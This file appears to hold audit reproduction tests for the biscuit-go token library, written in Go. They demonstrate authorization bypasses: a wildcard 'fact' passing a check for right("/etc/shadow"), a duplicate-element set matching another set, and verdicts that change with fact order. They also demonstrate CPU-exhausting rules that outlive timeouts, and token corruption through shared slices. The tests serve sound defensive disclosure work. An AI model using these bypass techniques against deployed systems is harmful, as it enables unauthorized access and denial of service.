						vars = append(vars, v)
						p.Terms = append(p.Terms, v)
					}
				}
				r.Body = append(r.Body, p)
			}
			hn := String(rng.Intn(5))
			r.Head = Predicate{Name: hn}
			for j := 0; j < arity[hn]; j++ {
				if len(vars) == 0 || rng.Intn(4) == 0 {
					r.Head.Terms = append(r.Head.Terms, mk())
				} else {
					r.Head.Terms = append(r.Head.Terms, vars[rng.Intn(len(vars))])
				}
			}
			if intOnly && len(vars) > 0 && rng.Intn(2) == 0 {
				r.Expressions = append(r.Expressions, Expression{
					Value{vars[rng.Intn(len(vars))]}, Value{Integer(rng.Intn(3))}, BinaryOp{LessOrEqual{}},
				})
			}
			if nb == 0 && rng.Intn(2) == 0 {
				r.Expressions = append(r.Expressions, Expression{
					Value{Integer(rng.Intn(3))}, Value{Integer(1)}, BinaryOp{LessOrEqual{}},
				})
			}
			rules = append(rules, r)
		}

		want := keysOfMap(refModel(facts, rules, syms))

		for perm := 0; perm < 2; perm++ {
			w := NewWorld(WithMaxDuration(30*time.Second), WithMaxFacts(100000), WithMaxIterations(10000))
			order := rng.Perm(len(facts))
			for _, i := range order {
				w.AddFact(Fact{facts[i]})
			}
			for _, i := range rng.Perm(len(rules)) {
				w.AddRule(rules[i])
			}
			if err := w.Run(syms); err != nil {
				t.Fatalf("iter %d: run error %v", iter, err)
			}
			got := keysOfSet(w.Facts())
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Fatalf("iter %d: model mismatch\nfacts %v\nrules %v\n got %v\nwant %v", iter, facts, rules, got, want)
			}
			// QueryRule for each rule
			for _, r := range rules {
				gotq := keysOfSet(w.QueryRule(r, syms))
				var cur []Predicate
				for _, f := range *w.Facts() {
					cur = append(cur, f.Predicate)
				}
				wantq := keysOfMap(refApply(r, cur, syms))
				if fmt.Sprint(gotq) != fmt.Sprint(wantq) {
					t.Fatalf("iter %d: query mismatch rule %v\n got %v\nwant %v", iter, r, gotq, wantq)
				}
			}
		}
	}
}
