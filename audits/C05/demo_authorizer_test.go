package biscuit_test

// Belongs to package directory: repository root (package biscuit_test)
//
// End-to-end variants of the C05 findings F1 and F2: text -> token -> wire -> authorizer.

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

func auditAuthorize(t *testing.T, authority string, authorizer string) error {
	t.Helper()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	blk, err := parser.FromStringBlock(authority)
	if err != nil {
		t.Fatalf("parse authority: %v", err)
	}
	builder := biscuit.NewBuilder(priv)
	if err := builder.AddBlock(blk); err != nil {
		t.Fatalf("add block: %v", err)
	}
	b, err := builder.Build()
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	ser, err := b.Serialize()
	if err != nil {
		t.Fatalf("serialize: %v", err)
	}
	b, err = biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	a, err := b.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		t.Fatalf("authorizer: %v", err)
	}
	pa, err := parser.FromStringAuthorizer(authorizer)
	if err != nil {
		t.Fatalf("parse authorizer: %v", err)
	}
	a.AddAuthorizer(pa)
	return a.Authorize()
}

// F1: the same token content, authority facts written in another order,
// is accepted or rejected.
func TestAuditC05_Authorizer_CheckDependsOnFactOrder(t *testing.T) {
	authz := `check if x($v), $v + 9223372036854775807 > 0; allow if true;`
	e1 := auditAuthorize(t, `x(0); x(1);`, authz)
	e2 := auditAuthorize(t, `x(1); x(0);`, authz)
	if (e1 == nil) != (e2 == nil) {
		t.Errorf("same facts, same check, different verdicts: order x(0);x(1) -> %v ; order x(1);x(0) -> %v", e1, e2)
	}
}

// F2: p([1, 1]) satisfies a check that asks for p([1, 2]).
func TestAuditC05_Authorizer_DuplicateElementSetMatchesOtherSet(t *testing.T) {
	err := auditAuthorize(t, `p([1, 1]);`, `check if p([1, 2]); allow if true;`)
	if err == nil {
		t.Errorf("token holding only p([1, 1]) passed `check if p([1, 2])`")
	}
	// control: a well formed different set is refused
	if err := auditAuthorize(t, `p([1, 3]);`, `check if p([1, 2]); allow if true;`); err == nil {
		t.Fatalf("control failed: p([1, 3]) passed check if p([1, 2])")
	}
}

// F6 (adjacent, input validation): a "fact" holding a variable is accepted by the builder,
// the serializer and the decoder, and matches every constant of a body predicate.
func TestAuditC05_Authorizer_NonGroundFactIsWildcard(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	builder := biscuit.NewBuilder(priv)
	err := builder.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.Variable("any")}}})
	if err != nil {
		t.Skipf("builder refuses the non ground fact: %v", err)
	}
	b, err := builder.Build()
	if err != nil {
		t.Skipf("build refuses: %v", err)
	}
	ser, err := b.Serialize()
	if err != nil {
		t.Skipf("serialize refuses: %v", err)
	}
	b, err = biscuit.Unmarshal(ser)
	if err != nil {
		t.Skipf("unmarshal refuses: %v", err)
	}
	a, err := b.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		t.Skipf("authorizer refuses: %v", err)
	}
	pa, err := parser.FromStringAuthorizer(`check if right("/etc/shadow"); allow if true;`)
	if err != nil {
		t.Fatal(err)
	}
	a.AddAuthorizer(pa)
	if err := a.Authorize(); err == nil {
		t.Errorf(`token with the single non ground fact right($any) passed check if right("/etc/shadow")`)
	}
}
