// C17 audit demo. Belongs to the repository root directory (package biscuit, next to biscuit.go).
// Uses the exported API only. Each test reports via t.Errorf exactly when the violation is present.
//
//	cp /tmp/audit_out/C17/demo_test.go /tmp/audit_C17/zz_c17_demo_test.go
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run TestC17Demo -count=1 -v .
package biscuit

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"testing"
)

func c17DemoCopy(ids [][]byte) [][]byte {
	out := make([][]byte, len(ids))
	for i, id := range ids {
		out[i] = append([]byte{}, id...)
	}
	return out
}

func c17DemoEq(a, b [][]byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if !bytes.Equal(a[i], b[i]) {
			return false
		}
	}
	return true
}

func c17DemoFamily(t *testing.T) (pub ed25519.PublicKey, parent, child *Biscuit) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	bd := NewBuilder(priv)
	if err := bd.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("file1")}}}); err != nil {
		t.Fatal(err)
	}
	parent, err = bd.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := parent.CreateBlock()
	if err := bb.AddFact(Fact{Predicate{Name: "op", IDs: []Term{Integer(1)}}}); err != nil {
		t.Fatal(err)
	}
	child, err = parent.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	return pub, parent, child
}

// A holder of the CHILD token writes into the slice RevocationIds() handed out (for instance to
// normalise / obfuscate identifiers in place). The PARENT token, a different *Biscuit value, must keep
// its identifiers, must keep verifying and must keep serializing to the same bytes.
func TestC17DemoParentCorruptedThroughChildIds(t *testing.T) {
	pub, parent, child := c17DemoFamily(t)

	want := c17DemoCopy(parent.RevocationIds())
	serBefore, err := parent.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := parent.Authorizer(pub); err != nil {
		t.Fatalf("parent must verify before the experiment: %v", err)
	}

	ids := child.RevocationIds()
	ids[0][0] ^= 0x01 // caller-owned result of an accessor, as far as the API tells

	if got := parent.RevocationIds(); !c17DemoEq(got, want) {
		t.Errorf("identifiers of the parent changed after writing into the value returned by child.RevocationIds():\n before %x\n after  %x", want[0], got[0])
	}
	if _, err := parent.Authorizer(pub); err != nil {
		t.Errorf("parent token no longer verifies: %v", err)
	}
	serAfter, err := parent.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(serBefore, serAfter) {
		t.Errorf("parent serializes to different bytes now (its stored signature was overwritten)")
	}
}

// Same through a sealed copy, and on a block (not authority) identifier: the unsealed original is hit.
func TestC17DemoOriginalCorruptedThroughSealedIds(t *testing.T) {
	pub, _, tok := c17DemoFamily(t)
	sealed, err := tok.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	want := c17DemoCopy(tok.RevocationIds())

	ids := sealed.RevocationIds()
	for i := range ids[1] {
		ids[1][i] = 0
	}

	if got := tok.RevocationIds(); !c17DemoEq(got, want) {
		t.Errorf("identifier of block 1 of the original changed through the sealed copy:\n before %x\n after  %x", want[1], got[1])
	}
	if _, err := tok.Authorizer(pub); err != nil {
		t.Errorf("original token no longer verifies: %v", err)
	}
}

// Stability on one token: the identifier of a block is the signature made when the block was signed;
// two successive calls must agree whatever the caller did with the first result, and must still agree
// with what an independent decoder reads from bytes serialized BEFORE.
func TestC17DemoIdsNotStableOnSameToken(t *testing.T) {
	_, _, tok := c17DemoFamily(t)
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	first := tok.RevocationIds()
	snapshot := c17DemoCopy(first)
	first[1][63] ^= 0x10

	second := tok.RevocationIds()
	if !c17DemoEq(second, snapshot) {
		t.Errorf("second call to RevocationIds() returns other identifiers than the first one did")
	}
	reloaded, err := Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	if !c17DemoEq(tok.RevocationIds(), reloaded.RevocationIds()) {
		t.Errorf("identifiers differ from the signatures found in the bytes this very token serialized to earlier")
	}
}
