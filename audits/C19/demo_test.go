// Reproducing tests for the C19 audit.
// Package directory: parser/  (copy this file to <repo>/parser/c19_demo_test.go)
// Run:  GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -race -run TestC19 -count=1 -v ./parser/
// All tests fail on the unchanged code (with and without -race, except where noted).
package parser_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

var c19Generous = biscuit.WithWorldOptions(
	datalog.WithMaxDuration(60*time.Second), datalog.WithMaxFacts(1000000), datalog.WithMaxIterations(10000))

// c19HeavyToken builds a token whose single authority rule is a cross product of `arity` copies of
// n(0..n-1): cheap to write, expensive to evaluate.
func c19HeavyToken(t *testing.T, n, arity int) (*biscuit.Biscuit, ed25519.PublicKey) {
	p := parser.New()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	var sb strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&sb, "n(%d);\n", i)
	}
	vars, body := []string{}, []string{}
	for i := 0; i < arity; i++ {
		vars = append(vars, fmt.Sprintf("$v%d", i))
		body = append(body, fmt.Sprintf("n($v%d)", i))
	}
	fmt.Fprintf(&sb, "tuple(%s) <- %s;\n", strings.Join(vars, ", "), strings.Join(body, ", "))
	blk, err := p.Block(sb.String(), nil)
	if err != nil {
		t.Fatal(err)
	}
	b := biscuit.NewBuilder(priv)
	if err := b.AddBlock(blk); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

// Finding 1, symptom A. Authorize returns "timeout" but the worker goroutine started by World.Run is
// neither stopped nor awaited: it later inserts its facts into the authorizer's world. The caller, who
// already has its answer, reads the same world (PrintWorld is the natural thing to log after a failure):
// data race (-race), the world changes under the caller's feet, and PrintWorld can panic with
// "index out of range" (symbol.go:242-244 sizes a slice from len(*w.facts) and then ranges over the
// grown set).
func TestC19_TimedOutWorkerStillWritesTheWorld(t *testing.T) {
	tok, pub := c19HeavyToken(t, 16, 3) // 4096 derived facts, one rule
	a, err := tok.AuthorizerFor(biscuit.WithSingularRootPublicKey(pub),
		biscuit.WithWorldOptions(datalog.WithMaxDuration(5*time.Millisecond), datalog.WithMaxFacts(1000000), datalog.WithMaxIterations(1000)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(biscuit.DefaultAllowPolicy)
	if err := a.Authorize(); !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Skipf("machine too fast or too slow for this demo, Authorize returned: %v", err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PrintWorld panicked after Authorize had returned: %v", r)
		}
	}()
	before := len(a.PrintWorld())
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if after := len(a.PrintWorld()); after != before {
			t.Errorf("the authorizer's world changed after Authorize returned (%d -> %d bytes printed): the timed-out worker is still writing to it", before, after)
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// Finding 1, symptom B. The deadline only stops the caller from waiting. The worker checks the context
// between rules only (datalog.go:368-377), never inside Rule.Apply/combine, so one expensive rule keeps
// a goroutine pair spinning long after the caller was told "timeout". A token holder can append such a
// rule; every verification attempt then leaks CPU.
func TestC19_TimedOutWorkerKeepsRunning(t *testing.T) {
	tok, pub := c19HeavyToken(t, 12, 4) // 20736 combinations, quadratic insert
	base := runtime.NumGoroutine()
	a, err := tok.AuthorizerFor(biscuit.WithSingularRootPublicKey(pub),
		biscuit.WithWorldOptions(datalog.WithMaxDuration(10*time.Millisecond), datalog.WithMaxFacts(1000000), datalog.WithMaxIterations(1000)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(biscuit.DefaultAllowPolicy)
	start := time.Now()
	if err := a.Authorize(); !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Skipf("Authorize returned: %v", err)
	}
	t.Logf("Authorize returned timeout after %v", time.Since(start))
	time.Sleep(500 * time.Millisecond) // 50x the configured limit
	if n := runtime.NumGoroutine(); n > base {
		t.Errorf("%d goroutine(s) of the timed-out evaluation still running 500ms after the 10ms limit expired", n-base)
	}
	for i := 0; i < 1200 && runtime.NumGoroutine() > base; i++ { // let it drain so other tests are not disturbed
		time.Sleep(100 * time.Millisecond)
	}
	t.Logf("evaluation goroutines gone %v after Authorize started", time.Since(start))
}

// Finding 2. Builder.Build hands the builder's own *FactSet to the token (builder.go:134), so the built
// token is not immutable: a goroutine that goes on using the builder (e.g. to mint the next token)
// writes into the fact set other goroutines are reading through the token. Facts that were never signed
// show up in the token (String, GetBlockID, Authorize) while Serialize still returns the signed bytes.
func TestC19_BuiltTokenSharesFactsWithItsBuilder(t *testing.T) {
	p := parser.New().Must()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	if err := b.AddAuthorityFact(p.Fact(`right("file1")`, nil)); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	alone := tok.String()
	authorize := func() error {
		a, err := tok.AuthorizerFor(biscuit.WithSingularRootPublicKey(pub), c19Generous)
		if err != nil {
			return err
		}
		a.AddPolicy(p.Policy(`allow if admin($x)`, nil))
		return a.Authorize()
	}
	if err := authorize(); !errors.Is(err, biscuit.ErrNoMatchingPolicy) {
		t.Fatalf("sequential outcome: %v", err)
	}

	var wg sync.WaitGroup
	wg.Add(2)
	go func() { // user of the token: read-only operations only
		defer wg.Done()
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("read-only use of the token panicked while the builder was being used elsewhere: %v", r)
			}
		}()
		for i := 0; i < 200; i++ {
			_ = tok.String()
			_, _ = tok.GetBlockID(p.Fact(`right("file1")`, nil))
			_ = authorize()
		}
	}()
	go func() { // owner of the builder: never touches the token
		defer wg.Done()
		for i := 0; i < 50; i++ {
			_ = b.AddAuthorityFact(p.Fact(`admin({n})`, parser.ParametersMap{"n": biscuit.Integer(i)}))
			time.Sleep(time.Millisecond)
		}
	}()
	wg.Wait()

	if got := tok.String(); got != alone {
		t.Errorf("token content changed after Build:\nbefore: %s\nafter: %s", alone, got)
	}
	if err := authorize(); err == nil {
		t.Errorf("token signed with right(\"file1\") only now satisfies `allow if admin($x)`")
	}
}
