// demo_test.go for property C20 -- belongs to the module root directory (package biscuit,
// next to biscuit.go); it is an internal test because it inspects tok.container.
//
// Tests named TestC20Borderline* FAIL on the unchanged code (see findings.md: both are outside the
// quantified domain of C20 and are reported as borderline observations only).
// All other tests PASS on the unchanged code: they are the documented search and fail exactly when
// a C20 violation (panic, token returned on failed source, key not derived from delivered bytes,
// token that does not verify) is present.
package biscuit

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"sync"
	"testing"
	"time"
)

// faultReader delivers bytes from data in chunks of at most chunk bytes, and fails with err
// once failAt bytes have been delivered. If together is set, the error is returned together with
// the last delivered bytes (n>0, err!=nil) instead of on the following call.
type faultReader struct {
	data      []byte
	failAt    int
	chunk     int
	err       error
	together  bool
	delivered []byte
	calls     int
}

func (f *faultReader) Read(p []byte) (int, error) {
	f.calls++
	remaining := f.failAt - len(f.delivered)
	if remaining <= 0 {
		return 0, f.err
	}
	n := len(p)
	if n > remaining {
		n = remaining
	}
	if f.chunk > 0 && n > f.chunk {
		n = f.chunk
	}
	copy(p, f.data[len(f.delivered):len(f.delivered)+n])
	f.delivered = append(f.delivered, p[:n]...)
	if f.together && len(f.delivered) >= f.failAt {
		return n, f.err
	}
	return n, nil
}

var errBoom = errors.New("boom")

func seedBytes() []byte {
	d := make([]byte, 256)
	for i := range d {
		d[i] = byte(i*7 + 3)
	}
	return d
}

type opFn func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error)

func c20Ops(t *testing.T) map[string]opFn {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	mkParent := func() *Biscuit {
		b := NewBuilder(priv)
		if err := b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("read")}}}); err != nil {
			t.Fatal(err)
		}
		tok, err := b.Build()
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}
	return map[string]opFn{
		"Build": func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error) {
			b := NewBuilder(priv, WithRNG(rng))
			_ = b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("read")}}})
			tok, err := b.Build()
			return tok, pub, err
		},
		"BuildKeyID": func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error) {
			b := NewBuilder(priv, WithRootKeyID(7), WithRNG(rng), WithRootKeyID(8))
			_ = b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("read")}}})
			tok, err := b.Build()
			return tok, pub, err
		},
		"New": func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error) {
			bb := NewBlockBuilder(defaultSymbolTable.Clone())
			_ = bb.AddFact(Fact{Predicate{Name: "right", IDs: []Term{String("newsym")}}})
			tok, err := New(rng, priv, defaultSymbolTable.Clone(), bb.Build())
			return tok, pub, err
		},
		"Append": func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error) {
			p := mkParent()
			bb := p.CreateBlock()
			_ = bb.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "q"}, Body: []Predicate{{Name: "right", IDs: []Term{String("read")}}}}}})
			tok, err := p.Append(rng, bb.Build())
			return tok, pub, err
		},
		"AppendDeser": func(rng io.Reader) (*Biscuit, ed25519.PublicKey, error) {
			p := mkParent()
			ser, err := p.Serialize()
			if err != nil {
				t.Fatal(err)
			}
			p, err = Unmarshal(ser)
			if err != nil {
				t.Fatal(err)
			}
			bb := p.CreateBlock()
			_ = bb.AddFact(Fact{Predicate{Name: "extra", IDs: []Term{String("abc")}}})
			tok, err := p.Append(rng, bb.Build())
			return tok, pub, err
		},
	}
}

func checkToken(t *testing.T, name string, tok *Biscuit, pub ed25519.PublicKey, delivered []byte) {
	t.Helper()
	if len(delivered) < 32 {
		t.Errorf("%s: token returned though only %d bytes delivered", name, len(delivered))
		return
	}
	secret := tok.container.Proof.GetNextSecret()
	if !bytes.Equal(secret, delivered[:32]) {
		t.Errorf("%s: next secret %x is not the delivered bytes %x", name, secret, delivered[:32])
	}
	var last []byte
	if n := len(tok.container.Blocks); n > 0 {
		last = tok.container.Blocks[n-1].NextKey.Key
	} else {
		last = tok.container.Authority.NextKey.Key
	}
	want := ed25519.NewKeyFromSeed(delivered[:32]).Public().(ed25519.PublicKey)
	if !bytes.Equal(last, want) {
		t.Errorf("%s: next public key not derived from delivered bytes", name)
	}
	if _, err := tok.Authorizer(pub); err != nil {
		t.Errorf("%s: returned token does not verify: %v", name, err)
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Errorf("%s: serialize: %v", name, err)
		return
	}
	tok2, err := Unmarshal(ser)
	if err != nil {
		t.Errorf("%s: unmarshal: %v", name, err)
		return
	}
	if _, err := tok2.Authorizer(pub); err != nil {
		t.Errorf("%s: deserialized token does not verify: %v", name, err)
	}
}

func runOp(op opFn, rng io.Reader) (tok *Biscuit, pub ed25519.PublicKey, err error, rec interface{}) {
	defer func() { rec = recover() }()
	tok, pub, err = op(rng)
	return
}

func TestC20Sweep(t *testing.T) {
	ops := c20Ops(t)
	for name, op := range ops {
		for _, chunk := range []int{0, 1, 5, 31} {
			for _, together := range []bool{false, true} {
				for _, e := range []error{errBoom, io.EOF, io.ErrUnexpectedEOF, io.ErrNoProgress} {
					for k := 0; k <= 40; k++ {
						fr := &faultReader{data: seedBytes(), failAt: k, chunk: chunk, err: e, together: together}
						id := fmt.Sprintf("%s/chunk=%d/together=%v/err=%v/k=%d", name, chunk, together, e, k)
						tok, pub, err, rec := runOp(op, fr)
						if rec != nil {
							t.Errorf("%s: panic %v", id, rec)
							continue
						}
						if k < 32 {
							if err == nil || tok != nil {
								t.Errorf("%s: expected error and no token, got tok=%v err=%v", id, tok != nil, err)
							}
							if err != nil {
								wantE := e
								if e == io.EOF && k > 0 {
									wantE = io.ErrUnexpectedEOF
								}
								if !errors.Is(err, wantE) {
									t.Errorf("%s: error %v does not wrap %v", id, err, wantE)
								}
							}
							continue
						}
						if err != nil || tok == nil {
							t.Errorf("%s: expected token, got err=%v", id, err)
							continue
						}
						checkToken(t, id, tok, pub, fr.delivered)
						if len(fr.delivered) != 32 {
							t.Errorf("%s: drew %d bytes", id, len(fr.delivered))
						}
					}
				}
			}
		}
	}
}

// flaky fails the first `fails` calls, then reads from data.
type flaky struct {
	fails int
	r     io.Reader
}

func (f *flaky) Read(p []byte) (int, error) {
	if f.fails > 0 {
		f.fails--
		return 0, errBoom
	}
	return f.r.Read(p)
}

func fact(name, v string) Fact { return Fact{Predicate{Name: name, IDs: []Term{String(v)}}} }

func TestC20BuilderReuseFiniteSource(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	src := bytes.NewReader(seedBytes()[:50]) // one key and a half
	b := NewBuilder(priv, WithRNG(src))
	_ = b.AddAuthorityFact(fact("right", "read"))
	t1, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	t2, err, rec := func() (tok *Biscuit, err error, rec interface{}) {
		defer func() { rec = recover() }()
		tok, err = b.Build()
		return
	}()
	if rec != nil || err == nil || t2 != nil {
		t.Errorf("second build on a dry source: tok=%v err=%v rec=%v", t2 != nil, err, rec)
	}
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("err=%v", err)
	}
	checkToken(t, "first", t1, pub, seedBytes()[:32])
}

func TestC20FailedThenRetry(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	fl := &flaky{fails: 1, r: bytes.NewReader(seedBytes())}
	b := NewBuilder(priv, WithRNG(fl))
	_ = b.AddAuthorityFact(fact("right", "read"))
	if tok, err := b.Build(); err == nil || tok != nil {
		t.Fatalf("expected failure")
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	checkToken(t, "retry build", tok, pub, seedBytes()[:32])

	before, _ := tok.Serialize()
	bb := tok.CreateBlock()
	_ = bb.AddFact(fact("extra", "zzz"))
	blk := bb.Build()
	if tk, err := tok.Append(&flaky{fails: 1}, blk); err == nil || tk != nil {
		t.Fatalf("expected failure")
	}
	after, _ := tok.Serialize()
	if !bytes.Equal(before, after) {
		t.Errorf("failed append changed the parent")
	}
	if tok.BlockCount() != 0 || len(tok.blocks) != 0 {
		t.Errorf("parent grew")
	}
	tk, err := tok.Append(bytes.NewReader(seedBytes()[100:]), blk)
	if err != nil {
		t.Fatal(err)
	}
	checkToken(t, "retry append", tk, pub, seedBytes()[100:132])
}

func TestC20OptionCombos(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	a := &faultReader{data: seedBytes(), failAt: 3, err: errBoom}
	g := &faultReader{data: seedBytes(), failAt: 1000, err: errBoom}
	// a then nil: a stays
	b := NewBuilder(priv, WithRNG(a), WithRNG(nil))
	if tok, err := b.Build(); err == nil || tok != nil || !errors.Is(err, errBoom) {
		t.Errorf("a,nil: tok=%v err=%v", tok != nil, err)
	}
	// a then g: g wins
	a.delivered = nil
	b = NewBuilder(priv, WithRNG(a), WithRNG(g))
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	if len(a.delivered) != 0 {
		t.Errorf("overridden source was drawn from")
	}
	checkToken(t, "a,g", tok, pub, g.delivered)
	// g then a: a wins, fails
	g.delivered = nil
	a.delivered = nil
	b = NewBuilder(priv, WithRNG(g), WithRNG(a))
	if tok, err := b.Build(); err == nil || tok != nil {
		t.Errorf("g,a: tok=%v err=%v", tok != nil, err)
	}
	if len(g.delivered) != 0 {
		t.Errorf("overridden source was drawn from")
	}
}

func TestC20AmbientRand(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	parent, err := NewBuilder(priv).Build()
	if err != nil {
		t.Fatal(err)
	}
	old := rand.Reader
	defer func() { rand.Reader = old }()
	for k := 0; k <= 32; k++ {
		for _, name := range []string{"Build", "New", "Append", "BuildNilOpt"} {
			fr := &faultReader{data: seedBytes(), failAt: k, err: errBoom, chunk: 7}
			rand.Reader = fr
			var tok *Biscuit
			var err error
			rec := func() (rec interface{}) {
				defer func() { rec = recover() }()
				switch name {
				case "Build":
					tok, err = NewBuilder(priv).Build()
				case "BuildNilOpt":
					tok, err = NewBuilder(priv, WithRNG(nil)).Build()
				case "New":
					tok, err = New(nil, priv, defaultSymbolTable.Clone(), NewBlockBuilder(defaultSymbolTable.Clone()).Build())
				case "Append":
					tok, err = parent.Append(nil, parent.CreateBlock().Build())
				}
				return
			}()
			rand.Reader = old
			if rec != nil {
				t.Errorf("%s k=%d panic %v", name, k, rec)
				continue
			}
			if k < 32 {
				if err == nil || tok != nil {
					t.Errorf("%s k=%d: tok=%v err=%v", name, k, tok != nil, err)
				}
			} else {
				if err != nil {
					t.Errorf("%s k=%d: %v", name, k, err)
					continue
				}
				checkToken(t, name, tok, pub, fr.delivered)
			}
		}
	}
}

func TestC20BorderlineTypedNil(t *testing.T) {
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	parent, _ := NewBuilder(priv).Build()
	var nilReader *bytes.Reader
	for _, name := range []string{"Build", "New", "Append"} {
		var tok *Biscuit
		var err error
		rec := func() (rec interface{}) {
			defer func() { rec = recover() }()
			switch name {
			case "Build":
				tok, err = NewBuilder(priv, WithRNG(nilReader)).Build()
			case "New":
				tok, err = New(nilReader, priv, defaultSymbolTable.Clone(), NewBlockBuilder(defaultSymbolTable.Clone()).Build())
			case "Append":
				tok, err = parent.Append(nilReader, parent.CreateBlock().Build())
			}
			return
		}()
		if rec != nil {
			t.Errorf("%s: typed-nil reader: panic %v", name, rec)
		} else {
			t.Logf("%s: tok=%v err=%v", name, tok != nil, err)
		}
	}
}

type zeroNil struct{ calls int }

func (z *zeroNil) Read(p []byte) (int, error) { z.calls++; time.Sleep(time.Microsecond); return 0, nil }

func TestC20BorderlineZeroNilForever(t *testing.T) {
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = NewBuilder(priv, WithRNG(&zeroNil{})).Build()
	}()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Errorf("Build still spinning after 2s on a source that returns (0, nil)")
	}
}

type lockedReader struct {
	mu sync.Mutex
	r  io.Reader
}

func (l *lockedReader) Read(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.r.Read(p)
}

func TestC20ConcurrentAppend(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	_ = b.AddAuthorityFact(fact("right", "read"))
	parent, _ := b.Build()
	bb := parent.CreateBlock()
	_ = bb.AddFact(fact("extra", "sym1"))
	blk := bb.Build()
	lr := &lockedReader{r: bytes.NewReader(bytes.Repeat(seedBytes(), 2)[:32*9+5])}
	var wg sync.WaitGroup
	var mu sync.Mutex
	okCount, errCount := 0, 0
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			tok, err := parent.Append(lr, blk)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				if tok != nil {
					t.Errorf("token with error")
				}
				errCount++
				return
			}
			okCount++
			if _, err := tok.Authorizer(pub); err != nil {
				t.Errorf("does not verify: %v", err)
			}
		}()
	}
	wg.Wait()
	if okCount != 9 || errCount != 7 {
		t.Errorf("ok=%d err=%d", okCount, errCount)
	}
}

type overReader struct{ data []byte }

func (o *overReader) Read(p []byte) (int, error) { copy(p, o.data); return len(p) + 8, nil }

func TestC20ConstantSeeds(t *testing.T) {
	ops := c20Ops(t)
	for name, op := range ops {
		for _, fill := range []byte{0x00, 0xff, 0x01} {
